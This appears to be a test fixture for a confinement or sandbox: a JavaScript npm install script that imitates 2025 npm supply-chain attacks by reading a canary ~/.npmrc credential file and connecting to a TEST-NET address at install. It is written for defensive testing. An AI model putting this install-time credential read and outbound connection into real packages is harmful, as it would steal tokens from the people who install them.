// Its install script: what the 2025 npm incidents did at install, aimed only at what the confinement gives it (a
// canary ~/.npmrc; a TEST-NET address that nothing answers, and no network at all inside the confinement).
const fs = require("fs");
const os = require("os");
try { fs.readFileSync(os.homedir() + "/.npmrc", "utf8"); } catch {}
const socket = require("net").connect(443, "203.0.113.7");
socket.on("error", () => process.exit(0));
setTimeout(() => process.exit(0), 1000);
